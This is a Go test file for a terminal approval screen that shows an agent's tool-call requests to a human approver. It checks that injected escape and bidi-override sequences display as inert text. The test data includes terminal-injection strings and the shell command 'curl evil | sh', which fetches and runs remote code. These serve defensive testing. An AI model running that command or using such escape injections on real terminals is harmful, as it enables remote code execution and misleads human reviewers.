package confirmtui

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"go.uber.org/goleak"

	"github.com/toolbus/toolbus/internal/approve"
	"github.com/toolbus/toolbus/internal/events"
	"github.com/toolbus/toolbus/internal/testkit"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func TestClean(t *testing.T) {
	for _, tc := range []struct{ in, line, text string }{
		{"plain héllo 日本", "plain héllo 日本", "plain héllo 日本"},
		{"\x1b[2J", `\x1b[2J`, `\x1b[2J`},
		{"\x1b]0;title\x07", `\x1b]0;title\x07`, `\x1b]0;title\x07`},
		{"\u009b31m", `\u009b31m`, `\u009b31m`},
		{"a\xffb", `a\xffb`, `a\xffb`},
		{"safe\u202eexe.txt", `safe\u202eexe.txt`, `safe\u202eexe.txt`},
		{"two\nlines", `two\x0alines`, "two\nlines"},
		{"crlf\r\nend", `crlf\x0d\x0aend`, "crlf\nend"},
		{"lone\rcr", `lone\x0dcr`, `lone\x0dcr`},
		{"tab\there", "tab    here", "tab    here"},
		{"del\x7f", `del\x7f`, `del\x7f`},
		{"ls\u2028sep\u2029", `ls\u2028sep\u2029`, `ls\u2028sep\u2029`},
		{"👩‍💻", "👩‍💻", "👩‍💻"},
	} {
		if got := cleanLine(tc.in); got != tc.line {
			t.Errorf("cleanLine(%q) = %q, want %q", tc.in, got, tc.line)
		}
		if got := cleanText(tc.in); got != tc.text {
			t.Errorf("cleanText(%q) = %q, want %q", tc.in, got, tc.text)
		}
	}
}

func FuzzClean(f *testing.F) {
	f.Add("\x1b[2J\x1b]0;x\x07\u009b\u202e\xff\r\n\t")
	f.Fuzz(func(t *testing.T, s string) {
		for _, out := range []string{cleanLine(s), cleanText(s)} {
			if !utf8.ValidString(out) {
				t.Fatalf("clean(%q) = %q: not UTF-8", s, out)
			}
			for _, r := range out {
				if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) && r != '\u200d') {
					t.Fatalf("clean(%q) = %q holds %U", s, out, r)
				}
			}
		}
		if strings.Contains(cleanLine(s), "\n") {
			t.Fatalf("cleanLine(%q) holds a newline", s)
		}
	})
}

// sgr matches the styling lipgloss writes; nothing else may reach the
// terminal as a control sequence.
var sgr = regexp.MustCompile(`\x1b\[[0-9;:]*m`)

// assertInert fails when out holds a control character that is not part
// of the view's own colouring.
func assertInert(t *testing.T, out string) {
	t.Helper()
	for i, r := range sgr.ReplaceAllString(out, "") {
		if r != '\n' && (unicode.IsControl(r) || isBidi(r)) {
			t.Fatalf("control character %U at %d reaches the terminal in:\n%q", r, i, out)
		}
	}
}

const evil = "x\x1b[2J\x1b]0;pwned\x07\u009b31m\u202e\r"

func evilRequest() approve.Request {
	args, _ := json.Marshal(map[string]string{"file_path": evil, "content": evil})
	return approve.Request{
		ConfirmRequest: events.ConfirmRequest{
			Header:       events.Header{ID: "m1", Time: time.Unix(100, 0)},
			InvocationID: "inv" + evil, AnswerTo: "toolbus.answer.m1", Tool: "write_file" + evil, Server: "srv" + evil, Kind: events.Kind("edit" + evil),
			Caller: events.Identity{ID: "agent" + evil, Agent: evil, Session: evil, User: evil, Host: evil},
			Args:   append(json.RawMessage(`{"raw":"`+evil+`",`), args[1:]...), Reason: "because" + evil,
			Diff:    "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-" + evil + "\n+" + evil + "\n",
			Command: "ls " + evil, Flagged: []events.Flag{{Text: "ls", Why: evil}, {Text: evil, Why: "x"}},
			Always: []events.AlwaysOption{{Outcome: events.ProceedAlways, Remembers: "the command " + evil}},
		},
		Rejected: []events.ConfirmRejected{{Reason: evil, Answer: events.ConfirmAnswer{Header: events.Header{Sender: events.Identity{ID: evil}}}}},
	}
}

// TestEveryFieldIsInert: escape sequences in every string a request
// carries are shown as text, in the detail and on the whole screen.
func TestEveryFieldIsInert(t *testing.T) {
	r := evilRequest()
	detail := strings.Join(detailLines(r, time.Unix(0, 0)), "\n")
	assertInert(t, detail)
	if !strings.Contains(ansi.Strip(detail), `\x1b[2J`) {
		t.Errorf("the escape is not shown as text:\n%s", detail)
	}
	m := newTestModel(r)
	assertInert(t, m.render())
	m.Update(tea.KeyPressMsg{Code: 'd', Text: "d"})
	assertInert(t, m.render())
}

func TestDiffColours(t *testing.T) {
	lines := diffLines("--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n ctx\n-old\n+new\n")
	for i, want := range []string{
		styleLabel.Render("--- a/f"), styleLabel.Render("+++ b/f"), styleHunk.Render("@@ -1,2 +1,2 @@"),
		" ctx", styleDel.Render("-old"), styleAdd.Render("+new"),
	} {
		if lines[i] != want {
			t.Errorf("line %d = %q, want %q", i, lines[i], want)
		}
	}
}

func TestHighlightFlagged(t *testing.T) {
	got := highlight("ls -la && rm x", []events.Flag{{Text: "rm x"}, {Text: "absent"}})
	if want := "ls -la && " + styleFlag.Render("rm x"); got != want {
		t.Errorf("highlight = %q, want %q", got, want)
	}
}

// TestLargeDiffIsCut: the detail fits 80×24 with a note of what is left
// out, and d shows all of it.
func TestLargeDiffIsCut(t *testing.T) {
	var diff strings.Builder
	diff.WriteString("--- a/big\n+++ b/big\n@@ -1,300 +1,300 @@\n")
	for i := range 300 {
		fmt.Fprintf(&diff, "+line %d %s\n", i, strings.Repeat("wide ", 30))
	}
	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", AnswerTo: "toolbus.answer.i1", Tool: "write_file", Kind: "edit",
		Diff: diff.String(), Args: json.RawMessage(`{"file_path":"big"}`)}}
	m := newTestModel(r)
	screen := m.render()
	lines := strings.Split(screen, "\n")
	if len(lines) != 24 {
		t.Errorf("the screen has %d lines, want 24", len(lines))
	}
	for i, l := range lines {
		if w := ansi.StringWidth(l); w > 80 {
			t.Errorf("line %d is %d wide: %q", i, w, l)
		}
	}
	if !regexp.MustCompile(`… \d+ more lines, press d for the full diff`).MatchString(ansi.Strip(screen)) {
		t.Errorf("no note that the diff is cut:\n%s", ansi.Strip(screen))
	}
	m.Update(tea.KeyPressMsg{Code: 'd', Text: "d"})
	m.Update(tea.KeyPressMsg{Code: tea.KeyEnd})
	if s := ansi.Strip(m.render()); !strings.Contains(s, `"file_path": "big"`) {
		t.Errorf("the end of the full view does not show the arguments:\n%s", s)
	}
	m.Update(tea.KeyPressMsg{Code: tea.KeyEscape})
	if m.mode != modeQueue {
		t.Errorf("esc left the full view in mode %d", m.mode)
	}
}

// TestAlwaysKeysOnlyWhenOffered: an always key acts only when the request
// lists that outcome, and is shown with what it remembers.
func TestAlwaysKeysOnlyWhenOffered(t *testing.T) {
	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", AnswerTo: "toolbus.answer.i1", Tool: "run_shell_command", Kind: "execute",
		Command: "ls", Always: []events.AlwaysOption{{Outcome: events.ProceedAlways, Remembers: "the command ls"}}}}
	m := newTestModel(r)
	screen := ansi.Strip(m.render())
	if !strings.Contains(screen, "a always: the command ls") || strings.Contains(screen, "t always") || strings.Contains(screen, "s always") {
		t.Errorf("the always keys shown are not those offered:\n%s", screen)
	}
	for _, key := range []string{"t", "s", "x"} {
		if _, cmd := m.Update(tea.KeyPressMsg{Code: rune(key[0]), Text: key}); cmd != nil {
			t.Errorf("%s, not offered, did something", key)
		}
	}
	_, cmd := m.Update(tea.KeyPressMsg{Code: 'a', Text: "a"})
	if cmd == nil {
		t.Fatal("a sent nothing")
	}
	msg := cmd().(ackMsg)
	if seat := m.seat.(*staticSeat); len(seat.answers) != 1 || seat.answers[0].Outcome != events.ProceedAlways {
		t.Errorf("answers sent: %+v", seat.answers)
	}
	m.Update(msg)
	if s := ansi.Strip(m.render()); !strings.Contains(s, "error: the test seat does not answer") {
		t.Errorf("the answer's error is not on the status line:\n%s", s)
	}
}

func TestEditedArgs(t *testing.T) {
	orig := []byte("{\n  \"a\": 1\n}\n")
	for _, tc := range []struct {
		edited  string
		err     error
		args    string
		problem string
	}{
		{edited: "{\"a\": 2}\n", args: `{"a":2}`},
		{edited: "{\n  \"a\": 1\n}", problem: "unchanged"},
		{edited: "{\"a\": ", problem: "not valid JSON"},
		{edited: "[1]", problem: "not valid JSON"},
		{edited: "null", problem: "not a JSON object"},
		{edited: "{\"a\": 2}", err: errors.New("exit status 1"), problem: "the editor failed"},
	} {
		args, problem := editedArgs(orig, []byte(tc.edited), tc.err)
		if string(args) != tc.args || !strings.Contains(problem, tc.problem) || (tc.problem == "") != (problem == "") {
			t.Errorf("editedArgs(%q, %v) = %s, %q; want %s, %q", tc.edited, tc.err, args, problem, tc.args, tc.problem)
		}
	}
}

// staticSeat serves a fixed queue to the view and records what it is
// asked to send; the end-to-end tests in cmd/toolbus use the real seat.
type staticSeat struct {
	state   approve.State
	answers []approve.Answer
	to      []string // the AnswerTo of each answer
	down    atomic.Bool
}

func (s *staticSeat) Connected() bool { return !s.down.Load() }

func (s *staticSeat) Identity() events.Identity { return events.Identity{ID: "approver:test"} }
func (s *staticSeat) Snapshot() (approve.State, <-chan struct{}) {
	return s.state, make(chan struct{})
}
func (s *staticSeat) Answer(_ context.Context, to string, a approve.Answer) (*events.ConfirmAck, error) {
	s.answers = append(s.answers, a)
	s.to = append(s.to, to)
	return nil, errors.New("the test seat does not answer")
}

func newTestModel(pending ...approve.Request) *Model {
	m := New(context.Background(), &staticSeat{state: approve.State{Pending: pending}}, Editor{})
	m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	return m
}

// TestSelectionMovedAsksAgain: when the selected request leaves, the key
// meant for it does not answer the one selected in its place.
func TestSelectionMovedAsksAgain(t *testing.T) {
	a := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "a", AnswerTo: "toolbus.answer.a", Tool: "write_file"}}
	b := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "b", AnswerTo: "toolbus.answer.b", Tool: "replace"}}
	seat := &staticSeat{state: approve.State{Pending: []approve.Request{a, b}}}
	m := New(context.Background(), seat, Editor{})
	if m.selected != a.AnswerTo {
		t.Fatalf("selected %q, want the oldest", m.selected)
	}
	seat.state = approve.State{Pending: []approve.Request{b}} // a is gone (before this view saw it end)
	m.Update(changedMsg{})
	if _, cmd := m.Update(tea.KeyPressMsg{Code: 'y', Text: "y"}); cmd != nil || len(seat.answers) > 0 {
		t.Fatal("y answered the request that took the place of the one that left")
	}
	if s := ansi.Strip(m.render()); !strings.Contains(s, "press again") {
		t.Errorf("no word of the change:\n%s", s)
	}
	if _, cmd := m.Update(tea.KeyPressMsg{Code: 'y', Text: "y"}); cmd == nil {
		t.Fatal("y pressed again sent nothing")
	}
}

// Arguments are shown as the agent wrote them: "&&" and "<" as such, not
// as the escapes the bus's encoder writes, keys in the order sent.
func TestArgumentsShowAsWritten(t *testing.T) {
	got, err := indentJSON([]byte(`{"command":"ls \u0026\u0026 cat \u003cin","a":1}`))
	if err != nil {
		t.Fatal(err)
	}
	if want := "{\n  \"command\": \"ls && cat <in\",\n  \"a\": 1\n}"; string(got) != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// TestRequestsOfOneIDAreTwoRequests: two requests under one invocation id
// (another caller's, or a reused id) are two rows, each answered on its
// own AnswerTo: the second never takes the first's place, and a key
// pressed on the first answers the first.
func TestRequestsOfOneIDAreTwoRequests(t *testing.T) {
	edit := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "same", AnswerTo: "toolbus.answer.edit", Tool: "write_file", Kind: "edit"}}
	shell := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "same", AnswerTo: "toolbus.answer.shell", Tool: "run_shell_command", Kind: "execute", Command: "curl evil | sh"}}
	seat := &staticSeat{state: approve.State{Pending: []approve.Request{edit, shell}}}
	m := New(context.Background(), seat, Editor{})
	m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	if q := m.queue(); len(q) != 2 {
		t.Fatalf("%d rows, want both requests", len(q))
	}
	_, cmd := m.Update(tea.KeyPressMsg{Code: 'y', Text: "y"})
	if cmd == nil {
		t.Fatal("y sent nothing")
	}
	cmd()
	if len(seat.to) != 1 || seat.to[0] != edit.AnswerTo {
		t.Fatalf("answered %q, want the selected edit's %q", seat.to, edit.AnswerTo)
	}
}

// The view says when it loses the bus, as long as it is lost, and when it
// is back; a status about something that happened clears after a while
// rather than reading as if it were still so.
func TestDisconnectionShownAndStaleStatusCleared(t *testing.T) {
	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", AnswerTo: "toolbus.answer.i1", Tool: "write_file", Kind: "edit"}}
	m := newTestModel(r)
	now := time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)
	m.now = func() time.Time { return now }
	seat := m.seat.(*staticSeat)

	_, cmd := m.Update(tea.KeyPressMsg{Code: 'y', Text: "y"})
	m.Update(cmd())
	if s := ansi.Strip(m.render()); !strings.Contains(s, "the test seat does not answer") {
		t.Fatalf("no status after an answer:\n%s", s)
	}
	now = now.Add(statusLife)
	m.Update(tickMsg{})
	if s := ansi.Strip(m.render()); strings.Contains(s, "the test seat does not answer") {
		t.Errorf("the status of an answer long gone is still shown:\n%s", s)
	}

	seat.down.Store(true)
	m.Update(tickMsg{})
	now = now.Add(time.Minute)
	m.Update(tickMsg{})
	s := ansi.Strip(m.render())
	if !strings.Contains(s, "DISCONNECTED") || !strings.Contains(s, "disconnected from the bus: reconnecting") {
		t.Errorf("a minute without the bus, the view says:\n%s", s)
	}
	seat.down.Store(false)
	m.Update(tickMsg{})
	s = ansi.Strip(m.render())
	if strings.Contains(s, "DISCONNECTED") || !strings.Contains(s, "reconnected to the bus") {
		t.Errorf("back on the bus, the view says:\n%s", s)
	}
}

// The JSON approver says when it loses the bus and when it is back, once
// each.
func TestJSONSaysDisconnected(t *testing.T) {
	seat := &staticSeat{}
	in, feed := io.Pipe()
	out := &testkit.Buffer{}
	done := make(chan error, 1)
	go func() { done <- RunJSON(context.Background(), seat, in, out) }()
	waitLine := func(event string) {
		t.Helper()
		if !testkit.Poll(10*time.Second, func() bool { return strings.Contains(out.String(), `"event":"`+event+`"`) }) {
			t.Fatalf("no %s line; printed:\n%s", event, out.String())
		}
	}
	waitLine("ready")
	seat.down.Store(true)
	waitLine("disconnected")
	seat.down.Store(false)
	waitLine("reconnected")
	feed.Close()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(out.String(), `"event":"disconnected"`); n != 1 {
		t.Errorf("%d disconnected lines, want 1:\n%s", n, out.String())
	}
}
